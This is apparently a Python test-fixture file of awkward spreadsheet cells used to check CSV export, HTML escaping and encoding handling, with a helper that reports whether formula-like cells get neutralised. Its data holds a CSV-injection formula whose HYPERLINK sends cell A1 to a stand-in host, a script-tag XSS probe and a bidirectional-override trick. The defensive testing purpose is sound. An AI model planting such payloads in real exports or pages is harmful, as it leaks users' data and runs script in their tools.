"""Cells that break tables: what a spreadsheet runs, what a page runs, and what databases and encodings trip over."""

from __future__ import annotations

#: Each under the name that its row has.
CELLS: dict[str, str] = {
    "beginning with =": '=HYPERLINK("http://korda.example/?"&A1,"the roll call")',
    "beginning with +": "+1+1 guards stayed at home",
    "beginning with -": "-2+3 guards stayed at home",
    "beginning with @": "@SUM(1,1) guards stayed at home",
    "`<script>`": "<script>alert('roll call')</script> <b>guards</b> &amp; inmates",
    "10,000 characters": "The guards stayed at home and read. " * 277 + "That was it, it was said in the end.",
    "right to left, with an override": "قال الحارس \u202eegap eht\u202c שלום — he stayed at home",
    "a NUL": "The guards\x00stayed at home",
    "half a surrogate pair": "The guards \ud83d stayed at home",
}

_STARTERS = tuple("=+-@")


def told(words: str, read: str, cell: str | None) -> str:
    """What became of a cell: as it is read again, and as it stands in the CSV."""
    kept = "kept exactly" if read == words else f"sent as {_short(read)}"
    if cell is None:
        return f"{kept}; missing in the CSV"
    if words.startswith(_STARTERS):
        return f"{kept}; {'runs as a formula from the CSV' if cell == words else _neutralised(words, cell)}"
    return f"{kept}; {'the same in the CSV' if cell == words else f'{_short(cell)} in the CSV'}"


def _neutralised(words: str, cell: str) -> str:
    if cell == f"'{words}":
        return "neutralised in the CSV"
    runs = cell.lstrip().startswith(_STARTERS)
    return f"{_short(cell)} in the CSV{', which runs' if runs else ''}"


def _short(text: str) -> str:
    shown = ascii(text[:40]).replace("|", "\\|")
    return f"{shown} ({len(text):,} characters)" if len(text) > 40 else shown
